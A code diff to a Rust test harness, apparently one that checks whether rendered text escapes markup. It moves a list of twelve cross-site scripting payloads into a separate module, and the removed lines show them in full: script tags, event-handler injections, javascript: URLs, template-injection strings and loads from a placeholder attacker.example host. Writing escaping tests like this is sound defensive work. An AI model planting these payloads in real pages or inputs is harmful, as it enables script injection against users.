@@ -4,28 +4,15 @@
 //! markup, scripts and what else might be taken for more than words. The Markdown that authors have is escaped,
 //! because the compiler refuses HTML in it; what comes out is what the attacker meant, letter by letter.
 
+mod attacks;
+
 use std::env;
 use std::error::Error;
 use std::fs;
 use std::path::PathBuf;
 
+use attacks::ATTACKS;
 use serde_json::Value;
-
-/// What stands in for the texts, one after the other.
-const ATTACKS: [&str; 12] = [
-    "<script>alert('a')</script>",
-    "<img src=https://attacker.example/b onerror=alert('b')>",
-    "\"><svg onload=alert('c')>",
-    "'><iframe src=https://attacker.example/d></iframe>",
-    "</title></style></script><script src=https://attacker.example/e></script>",
-    "javascript:alert('f')",
-    "<!-- --><base href=https://attacker.example/>",
-    "]]><style>*{background:url(https://attacker.example/h)}</style>",
-    "&lt;script&gt;alert('i')&lt;/script&gt;",
-    "<a href=\"javascript:alert('j')\">click</a>",
-    "{{constructor.constructor('alert(1)')()}} ${alert('k')}",
-    "<meta http-equiv=refresh content='0;url=https://attacker.example/l'>\u{202e}",
-];
 
 /// The fields that hold free text, in the author's words.
 const TEXTS: [&str; 29] = [
